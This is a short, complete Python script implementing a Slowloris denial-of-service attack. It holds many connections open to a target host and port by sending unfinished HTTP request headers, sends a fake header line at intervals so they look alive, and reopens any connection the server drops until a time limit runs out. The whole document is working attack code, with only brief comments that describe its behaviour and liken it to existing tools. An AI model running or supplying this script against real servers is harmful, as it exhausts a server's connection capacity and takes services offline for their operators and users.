# Slowloris: many connections that start a request and never finish its headers, trickling a
# header line now and then to look alive.
# Usage: slowloris.py <host> <port> <connections> <seconds> [interval]
# (a header line every `interval` seconds, 5 by default, as slowloris tools trickle them)
# Prints "<n> held" once every connection is open, then "done" when it lets go.
import socket
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
connections, seconds = int(sys.argv[3]), float(sys.argv[4])
interval = float(sys.argv[5]) if len(sys.argv) > 5 else 5.0



def open_one(i):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(('GET /?%d HTTP/1.1\r\nHost: %s\r\n' % (i, host)).encode('latin-1'))
        return s
    except OSError:
        return None


clients = [open_one(i) for i in range(connections)]
print('%d held' % sum(1 for s in clients if s), flush=True)

# like slowhttptest, a connection the server dropped is opened again
deadline = time.time() + seconds
n = 0
while time.time() < deadline:
    time.sleep(min(interval, max(0.0, deadline - time.time())))
    n += 1
    for i, s in enumerate(clients):
        try:
            s.send(('X-Wait-%d: 1\r\n' % n).encode('latin-1'))
        except (OSError, AttributeError):
            if s:
                s.close()
            clients[i] = open_one(i)
for s in clients:
    if s:
        s.close()
print('done', flush=True)
